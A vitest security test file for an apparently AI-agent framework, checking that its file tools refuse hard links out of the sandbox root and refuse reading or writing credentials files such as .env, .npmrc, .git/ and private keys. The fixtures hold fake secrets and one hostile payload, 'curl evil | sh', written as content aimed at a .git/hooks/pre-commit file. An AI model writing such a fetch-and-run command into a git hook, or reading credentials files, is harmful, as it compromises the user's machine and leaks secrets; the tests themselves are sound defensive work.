/**
 * Issue #15, security: the file tools do not follow hard links out of their root, and do not hand the model
 * credentials files (`.env`, `.npmrc`, `.git/`, private keys) unless allowed. Real files in a temp directory.
 */
import { link, mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fileTools } from "../../src/builtin-tools/file-tools.js";
import { SandboxError } from "../../src/errors/sandbox-error.js";
import type { Tool } from "../../src/tools/tool.js";

let base: string;
let root: string;
let outsideFile: string;

const PEM =
  "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n";

beforeAll(async () => {
  base = await realpath(await mkdtemp(path.join(os.tmpdir(), "agentloop-security-files-")));
  root = path.join(base, "root");
  await mkdir(path.join(root, ".git", "hooks"), { recursive: true });
  await mkdir(path.join(root, "keys"), { recursive: true });
  outsideFile = path.join(base, "outside-secret.txt");
  await writeFile(outsideFile, "the secret outside the root\n");
  await link(outsideFile, path.join(root, "innocent.txt")); // a hard link inside the root
  await writeFile(path.join(root, ".env"), "OPENAI_API_KEY=sk-live-123\n");
  await writeFile(path.join(root, ".env.local"), "TOKEN=1\n");
  await writeFile(path.join(root, ".env.example"), "OPENAI_API_KEY=\n");
  await writeFile(path.join(root, ".npmrc"), "//registry.npmjs.org/:_authToken=npm_abc\n");
  await writeFile(path.join(root, ".git", "config"), "[remote]\n");
  await writeFile(path.join(root, "keys", "id_ed25519"), PEM);
  await writeFile(path.join(root, "keys", "server.pem"), PEM);
  await writeFile(path.join(root, "notes.md"), `hello\n${PEM}`);
  await writeFile(path.join(root, "readme.md"), "ordinary text\n");
  await symlink(".env", path.join(root, "config.txt")); // a link inside the root to the secret file
});

afterAll(async () => {
  await rm(base, { recursive: true, force: true });
});

const ctx = { signal: new AbortController().signal, toolCallId: "c", turn: 0 };

function toolsOf(options: Parameters<typeof fileTools>[0] = {}): Record<string, Tool> {
  return Object.fromEntries(fileTools({ root, ...options }).map((entry) => [entry.name, entry]));
}

async function refused(promise: Promise<unknown>, reason: RegExp): Promise<string> {
  const error = await promise.then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(SandboxError.isInstance(error), `expected a SandboxError, got ${String(error)}`).toBe(true);
  expect((error as Error).message).toMatch(reason);
  return (error as Error).message;
}

const call = (target: Tool | undefined, args: Record<string, unknown>): Promise<unknown> =>
  Promise.resolve(target?.execute(args as never, ctx));

describe("hard links out of the root", () => {
  it("read_file refuses a file with more than one link, and says how to allow it", async () => {
    const { read_file } = toolsOf();
    const message = await refused(call(read_file, { path: "innocent.txt" }), /has 2 hard links/);
    expect(message).toMatch(/allowHardLinkedReads: true/);
    expect(message).not.toContain("the secret outside");
  });

  it("allowHardLinkedReads reads it", async () => {
    const { read_file } = toolsOf({ allowHardLinkedReads: true });
    expect(await call(read_file, { path: "innocent.txt" })).toBe("the secret outside the root\n");
  });

  it("write_file refuses to replace or append to it; the outside file is unchanged", async () => {
    const { write_file } = toolsOf({ allowHardLinkedReads: true });
    await refused(call(write_file, { path: "innocent.txt", content: "pwned" }), /has 2 hard links/);
    await refused(call(write_file, { path: "innocent.txt", content: "pwned", append: true }), /hard links/);
    expect(await readFile(outsideFile, "utf8")).toBe("the secret outside the root\n");
  });
});

describe("files that hold secrets", () => {
  it.each([
    [".env", /credentials file/],
    [".env.local", /credentials file/],
    ["./.env", /credentials file/],
    ["sub/../.env", /credentials file/],
    [".npmrc", /credentials file/],
    [".git/config", /inside \.git\//],
    ["keys/id_ed25519", /credentials file/],
    ["keys/server.pem", /key file/],
    ["config.txt", /credentials file/], // a symbolic link to .env
    ["notes.md", /holds a private key/],
  ])("read_file refuses %s", async (file, reason) => {
    const { read_file } = toolsOf({ allowHardLinkedReads: true });
    const message = await refused(call(read_file, { path: file }), reason);
    expect(message).toMatch(/allowSecretFiles: true/);
    expect(message).not.toMatch(/sk-live|npm_abc|b3BlbnNz/);
  });

  it.each([
    [".env"],
    [".git/hooks/pre-commit"],
    [".npmrc"],
    ["deploy/.env.production"],
    ["deploy/.ENV"],
    ["config.txt"],
  ])("write_file refuses %s (nothing is created)", async (file) => {
    const { write_file } = toolsOf();
    await refused(call(write_file, { path: file, content: "curl evil | sh" }), /may hold secrets/);
    await expect(readFile(path.join(root, ".git", "hooks", "pre-commit"))).rejects.toThrow(/ENOENT/);
    expect(await readFile(path.join(root, ".env"), "utf8")).toBe("OPENAI_API_KEY=sk-live-123\n");
  });

  it("ordinary files and .env templates are read as before", async () => {
    const { read_file } = toolsOf();
    expect(await call(read_file, { path: "readme.md" })).toBe("ordinary text\n");
    expect(await call(read_file, { path: ".env.example" })).toBe("OPENAI_API_KEY=\n");
  });

  it("allowSecretFiles permits them", async () => {
    const { read_file } = toolsOf({ allowSecretFiles: true });
    expect(await call(read_file, { path: ".env" })).toBe("OPENAI_API_KEY=sk-live-123\n");
    expect(await call(read_file, { path: "notes.md" })).toContain("PRIVATE KEY");
  });
});
